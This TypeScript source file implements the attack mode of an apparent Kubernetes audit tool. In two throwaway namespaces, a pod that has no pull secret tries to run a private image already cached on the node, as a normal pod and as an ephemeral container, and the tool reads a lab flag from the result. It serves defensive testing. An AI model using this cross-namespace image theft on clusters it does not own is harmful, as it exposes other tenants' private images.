// `audit --attack`: the heist, played for real in two throwaway namespaces the audit creates (random names,
// labelled): the owner's pod pulls the private image with the pull secret; a pod in the other namespace, with no
// secret, asks for it with IfNotPresent on the same node; then the same through an ephemeral container, as
// `kubectl debug` adds it. Everything it made is deleted in `finally` (also on abort), and only what it made.
import { randomBytes } from 'node:crypto';
import type { AttackObservation, AttackOutcome } from './findings.js';
import { statusMessage, type KubeHttp, type KubeResponse } from './kube-http.js';

export const ATTACK_LABELS = { 'app.kubernetes.io/managed-by': 'image-heist-audit' };
const RUN_LABEL = 'image-heist.dev/audit-run';

export interface AttackOptions {
  image: string;
  /** The .dockerconfigjson contents for the owner's pull secret. Never printed. */
  dockerConfigJson: string;
  /** An image the attacker's namespace may pull without credentials, to host the ephemeral container. */
  hostImage: string;
  timeoutMs: number;
  signal?: AbortSignal;
  onProgress?: (line: string) => void;
  /** Injected by tests: the namespace names (otherwise random). */
  suffix?: string;
}

/** Why a container is not running, as the kubelet reports it (pkg/kubelet/images/types.go). */
const PULL_REFUSED = ['ErrImagePull', 'ImagePullBackOff', 'ErrImageNeverPull', 'InvalidImageName', 'RegistryUnavailable'];

type ContainerStatus = {
  name?: string;
  imageID?: string;
  state?: { running?: object; terminated?: { exitCode?: number; reason?: string }; waiting?: { reason?: string; message?: string } };
};
type Pod = {
  metadata?: { name?: string };
  spec?: { nodeName?: string; containers?: { imagePullPolicy?: string }[]; ephemeralContainers?: { name?: string; imagePullPolicy?: string }[] };
  status?: { containerStatuses?: ContainerStatus[]; ephemeralContainerStatuses?: ContainerStatus[] };
};

class Aborted extends Error {
  override readonly name = 'AbortError';
}

const sleep = (ms: number, signal?: AbortSignal) =>
  new Promise<void>((resolve, reject) => {
    if (signal?.aborted) return reject(new Aborted('aborted'));
    const t = setTimeout(() => {
      signal?.removeEventListener('abort', onAbort);
      resolve();
    }, ms);
    const onAbort = () => {
      clearTimeout(t);
      reject(new Aborted('aborted'));
    };
    signal?.addEventListener('abort', onAbort, { once: true });
  });

/** How a container ended up: started (ran), refused by the pull, or still pending. */
export function containerFate(status: ContainerStatus | undefined): { fate: 'ran'; detail: string } | { fate: 'refused'; detail: string } | { fate: 'pending' } {
  const s = status?.state;
  if (s?.running) return { fate: 'ran', detail: `running${status?.imageID ? `, imageID ${status.imageID}` : ''}` };
  if (s?.terminated)
    return { fate: 'ran', detail: `terminated (${s.terminated.reason ?? 'exit'} ${s.terminated.exitCode ?? ''})${status?.imageID ? `, imageID ${status.imageID}` : ''}` };
  const reason = s?.waiting?.reason;
  if (reason && PULL_REFUSED.includes(reason)) return { fate: 'refused', detail: `${reason}: ${s?.waiting?.message ?? ''}`.trim() };
  return { fate: 'pending' };
}

export async function runAttack(http: KubeHttp, o: AttackOptions): Promise<AttackObservation> {
  const suffix = o.suffix ?? randomBytes(4).toString('hex');
  const nsA = `image-heist-audit-a-${suffix}`;
  const nsB = `image-heist-audit-b-${suffix}`;
  const created: string[] = [];
  const say = (line: string) => o.onProgress?.(line);
  const labels = { ...ATTACK_LABELS, [RUN_LABEL]: suffix };
  const api = (ns: string, rest = '') => `/api/v1/namespaces/${ns}${rest}`;
  let result: Omit<AttackObservation, 'cleanedUp' | 'namespaces'> = {
    containers: { kind: 'inconclusive', reason: 'not run' },
    'ephemeral-containers': { kind: 'inconclusive', reason: 'not run' },
  };
  let cleanedUp: boolean;
  if (o.signal?.aborted) throw new Aborted('aborted before the attack began');
  try {
    for (const ns of [nsA, nsB]) {
      const r = await http.request('POST', '/api/v1/namespaces', { apiVersion: 'v1', kind: 'Namespace', metadata: { name: ns, labels } });
      if (r.status !== 201 && r.status !== 200) throw new AttackSetupError(`cannot create namespace ${ns}: ${statusMessage(r)}`);
      created.push(ns);
      say(`created namespace ${ns}`);
    }
    const secret = await http.request('POST', api(nsA, '/secrets'), {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'image-pull-secret', labels },
      type: 'kubernetes.io/dockerconfigjson',
      data: { '.dockerconfigjson': Buffer.from(o.dockerConfigJson).toString('base64') },
    });
    if (secret.status !== 201) throw new AttackSetupError(`cannot create the pull secret in ${nsA}: ${statusMessage(secret)}`);

    // the owner asks for Always (what a pull-policy policy demands; the image is cached all the same)
    const owner = await createPod(http, nsA, pod('owner', o.image, { pullSecret: 'image-pull-secret', pullPolicy: 'Always' }, labels));
    if (owner.status !== 201) throw new AttackSetupError(`the owner's pod was refused: ${statusMessage(owner)}`);
    say(`owner's pod in ${nsA} pulls ${o.image} with the pull secret`);
    const ownerPod = await waitFor(http, nsA, 'owner', (p) => p.status?.containerStatuses?.[0], o);
    const ownerFate = containerFate(ownerPod.status?.containerStatuses?.[0]);
    if (ownerFate.fate !== 'ran') {
      throw new AttackSetupError(
        `the owner's pod could not run the image with the pull secret (${ownerFate.fate === 'refused' ? ownerFate.detail : 'timed out'}), so the heist cannot be tested`,
      );
    }
    const node = ownerPod.spec?.nodeName ?? '';
    say(`the image is now cached on node ${node}`);

    result = { ...result, containers: await classic(http, nsB, node, o, labels) };
    say(`classic: ${result.containers.kind}`);
    result = { ...result, 'ephemeral-containers': await ephemeral(http, nsB, node, o, labels) };
    say(`ephemeral container: ${result['ephemeral-containers'].kind}`);
  } catch (error) {
    if (error instanceof AttackSetupError) {
      const inconclusive: AttackOutcome = { kind: 'inconclusive', reason: error.message };
      result = {
        containers: result.containers.kind === 'inconclusive' ? inconclusive : result.containers,
        'ephemeral-containers': result['ephemeral-containers'].kind === 'inconclusive' ? inconclusive : result['ephemeral-containers'],
      };
    } else throw error;
  } finally {
    cleanedUp = await cleanUp(http, created, say);
  }
  return { namespaces: created, ...result, cleanedUp };
}

class AttackSetupError extends Error {}

function pod(name: string, image: string, o: { pullSecret?: string; nodeName?: string; pullPolicy?: 'Always' }, labels: Record<string, string>) {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, labels },
    spec: {
      restartPolicy: 'Never',
      automountServiceAccountToken: false,
      terminationGracePeriodSeconds: 0,
      ...(o.nodeName ? { nodeName: o.nodeName } : {}),
      ...(o.pullSecret ? { imagePullSecrets: [{ name: o.pullSecret }] } : {}),
      containers: [{ name: 'app', image, imagePullPolicy: o.pullPolicy ?? 'IfNotPresent' }],
    },
  };
}

function createPod(http: KubeHttp, ns: string, body: object): Promise<KubeResponse> {
  return http.request('POST', `/api/v1/namespaces/${ns}/pods?fieldManager=image-heist-audit`, body);
}

async function waitFor(http: KubeHttp, ns: string, name: string, pick: (p: Pod) => ContainerStatus | undefined, o: AttackOptions): Promise<Pod> {
  const deadline = Date.now() + o.timeoutMs;
  for (;;) {
    const r = await http.get(`/api/v1/namespaces/${ns}/pods/${name}`);
    if (r.status !== 200) throw new AttackSetupError(`cannot read pod ${ns}/${name}: ${statusMessage(r)}`);
    const p = r.body as Pod;
    if (containerFate(pick(p)).fate !== 'pending' || Date.now() > deadline) return p;
    await sleep(250, o.signal);
  }
}

async function flagLine(http: KubeHttp, ns: string, name: string, container: string): Promise<string> {
  const r = await http.get(`/api/v1/namespaces/${ns}/pods/${name}/log?container=${container}&limitBytes=4096`);
  const text = typeof r.body === 'string' ? r.body : '';
  const flag = /FLAG\{[0-9a-f]{32}\}/.exec(text);
  // the lab image's flag is random per run and proves the read; a user's own image's output is never printed
  return flag ? `; its log shows the image's secret ${flag[0]}` : r.status === 200 ? `; its log has ${Buffer.byteLength(text)} bytes (not shown)` : '';
}

async function classic(http: KubeHttp, ns: string, node: string, o: AttackOptions, labels: Record<string, string>): Promise<AttackOutcome> {
  const r = await createPod(http, ns, pod('heist', o.image, { nodeName: node }, labels));
  if (r.status !== 201) return { kind: 'blocked', node, by: 'admission', policy: 'IfNotPresent', evidence: `the pod was refused: ${statusMessage(r)}` };
  const policy = (r.body as Pod).spec?.containers?.[0]?.imagePullPolicy ?? 'IfNotPresent';
  const p = await waitFor(http, ns, 'heist', (x) => x.status?.containerStatuses?.[0], o);
  return verdict(containerFate(p.status?.containerStatuses?.[0]), node, policy, `pod ${ns}/heist (no pull secret, imagePullPolicy ${policy})`, () =>
    flagLine(http, ns, 'heist', 'app'),
  );
}

async function ephemeral(http: KubeHttp, ns: string, node: string, o: AttackOptions, labels: Record<string, string>): Promise<AttackOutcome> {
  // the host is innocent: a public image with Always, which a policy requiring Always admits; the ephemeral container is the test
  const host = await createPod(http, ns, pod('host', o.hostImage, { nodeName: node, pullPolicy: 'Always' }, labels));
  if (host.status !== 201) return { kind: 'inconclusive', reason: `the host pod for the ephemeral container was refused: ${statusMessage(host)}` };
  const hostPod = await waitFor(http, ns, 'host', (x) => x.status?.containerStatuses?.[0], o);
  if (containerFate(hostPod.status?.containerStatuses?.[0]).fate !== 'ran') {
    return { kind: 'inconclusive', reason: `the host pod could not run ${o.hostImage} (pass --host-image with an image the node can pull without credentials)` };
  }
  const patch = { spec: { ephemeralContainers: [{ name: 'heist', image: o.image, imagePullPolicy: 'IfNotPresent' }] } };
  const r = await http.request('PATCH', `/api/v1/namespaces/${ns}/pods/host/ephemeralcontainers?fieldManager=image-heist-audit`, patch, 'application/strategic-merge-patch+json');
  if (r.status !== 200) return { kind: 'blocked', node, by: 'admission', policy: 'IfNotPresent', evidence: `the ephemeral container was refused: ${statusMessage(r)}` };
  const policy = (r.body as Pod).spec?.ephemeralContainers?.find((c) => c.name === 'heist')?.imagePullPolicy ?? 'IfNotPresent';
  const pick = (x: Pod) => x.status?.ephemeralContainerStatuses?.find((c) => c.name === 'heist');
  const p = await waitFor(http, ns, 'host', pick, o);
  return verdict(containerFate(pick(p)), node, policy, `ephemeral container heist in ${ns}/host (no pull secret, imagePullPolicy ${policy})`, () =>
    flagLine(http, ns, 'host', 'heist'),
  );
}

async function verdict(fate: ReturnType<typeof containerFate>, node: string, policy: string, what: string, log: () => Promise<string>): Promise<AttackOutcome> {
  if (fate.fate === 'ran') return { kind: 'bypassed', node, policy, evidence: `${what} ran the cached image on node ${node}: ${fate.detail}${await log()}` };
  if (fate.fate === 'refused') {
    // Always means the registry was asked (admission forced it); IfNotPresent/Never means the kubelet refused the cache
    return { kind: 'blocked', node, by: policy === 'Always' ? 'registry' : 'kubelet', policy, evidence: `${what}: ${fate.detail}` };
  }
  return { kind: 'inconclusive', reason: `${what} neither ran nor failed to pull before the timeout` };
}

/** Deletes the namespaces this run created, and nothing else; true when each delete was accepted. */
async function cleanUp(http: KubeHttp, created: string[], say: (line: string) => void): Promise<boolean> {
  let ok = true;
  for (const ns of [...created].reverse()) {
    try {
      const r = await http.request('DELETE', `/api/v1/namespaces/${ns}`, { apiVersion: 'v1', kind: 'DeleteOptions', propagationPolicy: 'Background' });
      if (r.status >= 300 && r.status !== 404) ok = false;
      else say(`deleted namespace ${ns}`);
    } catch {
      ok = false;
    }
  }
  return ok;
}
